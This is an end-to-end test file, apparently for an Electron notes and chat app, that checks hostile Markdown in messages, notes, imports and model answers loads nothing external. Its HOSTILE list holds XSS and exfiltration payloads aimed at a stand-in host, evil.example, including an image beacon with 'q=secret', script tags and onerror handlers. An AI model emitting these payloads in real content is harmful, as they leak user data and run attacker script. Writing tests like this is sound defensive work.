import { startFakeProvider } from '../../../electron/testing/fake-provider/fake-provider';
import { answers, ask, send } from '../../screens/chat';
import { openScreen, openSettings } from '../../screens/frame';
import { setProvider } from '../../screens/settings';
import { noteText, openNote } from '../../screens/vault';
import { expect, test } from '../../support/app-test';
import { takeScreenshot } from '../../support/screenshots';
import type { RunningApp } from '../../support/running-app';

const OUTSIDE = 'evil.example';
const HOSTILE = [
  `![picture](http://${OUTSIDE}/pixel.png?q=secret)`,
  `<img src="https://${OUTSIDE}/pixel.gif" onerror="window.wasHacked = true">`,
  `<script src="https://${OUTSIDE}/x.js"></script><script>window.wasHacked = true</script>`,
  `<style>@import url(https://${OUTSIDE}/x.css); body { background: url(https://${OUTSIDE}/bg.png) }</style>`,
  `<div style="background-image: url(https://${OUTSIDE}/div.png)" onclick="window.wasHacked = true">boxed</div>`,
  `<iframe src="https://${OUTSIDE}/frame"></iframe><object data="https://${OUTSIDE}/o"></object><video src="https://${OUTSIDE}/v.mp4" autoplay></video>`,
  `<svg onload="window.wasHacked = true"><image href="https://${OUTSIDE}/svg.png" /></svg><link rel="stylesheet" href="https://${OUTSIDE}/l.css">`,
  '[press me](javascript:window.wasHacked=true) and [data](data:text/html,<script>window.wasHacked=true</script>)',
  `[plain link](https://${OUTSIDE}/page) and ![ref][r]`,
  `[r]: https://${OUTSIDE}/ref.png`,
].join('\n\n');

test.describe('nothing leaves this machine', () => {
  let app: RunningApp;
  let reports: string[];
  let requests: string[];

  test.beforeEach(async ({ fileApp: started }) => {
    app = started;
    reports = [];
    requests = [];
    const { page } = app;
    page.on('console', (message) => {
      if (/Content Security Policy|violates/i.test(message.text())) reports.push(message.text());
    });
    page.on('request', (request) => requests.push(request.url()));
    await page.evaluate(() =>
      document.addEventListener('securitypolicyviolation', (event) => {
        (window as unknown as { violations: string[] }).violations = [
          ...((window as unknown as { violations?: string[] }).violations ?? []),
          `${event.violatedDirective} ${event.blockedURI}`,
        ];
      }),
    );
  });

  /** No request, no script, and no attempt: the policy had nothing to block. */
  async function expectSilence(): Promise<void> {
    const { page } = app;
    const seen = await page.evaluate(() => {
      const global = window as unknown as { wasHacked?: boolean; violations?: string[] };
      return { wasHacked: global.wasHacked ?? false, violations: global.violations ?? [] };
    });
    expect(seen).toEqual({ wasHacked: false, violations: [] });
    const { origin } = new URL(page.url());
    expect(
      requests.filter((url) => new URL(url).origin !== origin && !url.startsWith('data:') && !url.startsWith('blob:')),
    ).toEqual([]);
    expect(app.foreignRequests()).toEqual([]);
    expect(reports).toEqual([]);
    for (const html of await page.locator('main').evaluateAll((nodes) => nodes.map((node) => node.innerHTML))) {
      expect(html).not.toMatch(/<(script|iframe|object|video|link|image)\b/i);
      expect(html).not.toMatch(/<img\b/i);
      expect(html).not.toMatch(/href="(javascript|data):/i);
    }
  }

  test('hostile Markdown in messages, notes, documents, titles and search makes no request', async () => {
    const { page } = app;
    await ask(page, `Remember this: ${HOSTILE}`);
    await expectSilence();
    await takeScreenshot(page, 'privacy-01-chat');

    await app.call('notes.create', { title: 'Hostile note', body: HOSTILE, category: 'fact' });
    await app.call('notes.create', {
      title: `<img src=x onerror="window.wasHacked=true"> as a title`,
      body: '',
      category: 'fact',
    });
    await openNote(page, 'Hostile note');
    await expect(noteText(page)).toBeVisible();
    await takeScreenshot(page, 'privacy-02-note');
    await expectSilence();
    expect(
      (await app.call('notes.page', { id: (await app.call('notes.byTitle', { title: 'Hostile note' }))!.id })).note
        .body,
    ).toBe(HOSTILE);
  });

  test('hostile Markdown in a document or an imported answer is shown as text', async () => {
    const { page } = app;
    await openSettings(page, 'Data');
    await page.getByRole('button', { name: 'Import…' }).click();
    const dialog = page.getByRole('dialog', { name: 'Import' });
    await dialog.getByLabel('Files to import').setInputFiles([
      { name: 'hostile.md', mimeType: 'text/markdown', buffer: Buffer.from(`# Hostile document\n\n${HOSTILE}\n`) },
      {
        name: 'hostile.json',
        mimeType: 'application/json',
        buffer: Buffer.from(
          JSON.stringify({
            sessions: [
              {
                title: 'Hostile talk',
                date: '2025-02-02',
                turns: [
                  { speaker: 'You', text: HOSTILE },
                  { speaker: 'Assistant', text: HOSTILE },
                ],
              },
            ],
          }),
        ),
      },
    ]);
    await dialog.getByRole('button', { name: 'Import', exact: true }).click();
    await expect(dialog.getByText('Imported.')).toBeVisible();
    await dialog.getByRole('button', { name: 'Done' }).click();
    await openScreen(page, 'Vault');
    await page.getByLabel('Show', { exact: true }).selectOption('resources');
    await page
      .getByRole('listbox', { name: 'Vault' })
      .getByRole('option', { name: /^hostile/ })
      .click();
    await expect(page.getByText('plain link').first()).toBeVisible();
    await takeScreenshot(page, 'privacy-03-resource');
    await expectSilence();

    await openScreen(page, 'Chat');
    await page
      .getByRole('navigation', { name: 'Chats' })
      .getByRole('button', { name: /^Hostile talk/ })
      .click();
    await expect(page.locator('article[data-message]').last().getByText('plain link')).toBeVisible();
    await expectSilence();
    await openScreen(page, 'Search');
    await page.getByRole('searchbox', { name: 'Search the vault' }).fill('plain link picture');
    await page.keyboard.press('Enter');
    await expect(
      page
        .getByRole('listbox', { name: 'Results' })
        .or(page.getByText(/Nothing in/))
        .first(),
    ).toBeVisible();
    await expectSilence();
  });

  test('hostile Markdown in a model’s answer loads nothing; a link is shown before it opens', async () => {
    const { page } = app;
    const provider = await startFakeProvider();
    try {
      await setProvider(app, { baseUrl: provider.url, chatModel: 'fake-chat' });
      provider.setAnswer(HOSTILE);
      await openScreen(page, 'Chat');
      await send(page, 'Say something');
      await expect(answers(page).last()).toContainText('plain link');
      await page.getByRole('button', { name: 'Send', exact: true }).waitFor();
      await expectSilence();
      await expect(answers(page).last().getByRole('link')).toHaveCount(1);
      await answers(page).last().getByRole('link', { name: 'plain link' }).click();
      const said = await app.answerConsent('no');
      expect(said).toContain('Open this address?');
      expect(said).toContain(`https://${OUTSIDE}/page`);
      await expectSilence();
    } finally {
      await provider.stop();
    }
  });

  test('a page’s request to the outside is blocked and logged', async () => {
    const { page } = app;
    const outcome = await page.evaluate(async (host) => {
      const tried = await Promise.allSettled([fetch(`https://${host}/beacon`), fetch(`http://127.0.0.1:9/local`)]);
      return tried.map(({ status }) => status);
    }, OUTSIDE);
    expect(outcome).toEqual(['rejected', 'rejected']);
    // Shows that the other tests here would have noticed.
    await expect
      .poll(() => page.evaluate(() => (window as unknown as { violations?: string[] }).violations?.length ?? 0))
      .toBeGreaterThan(0);
  });
});
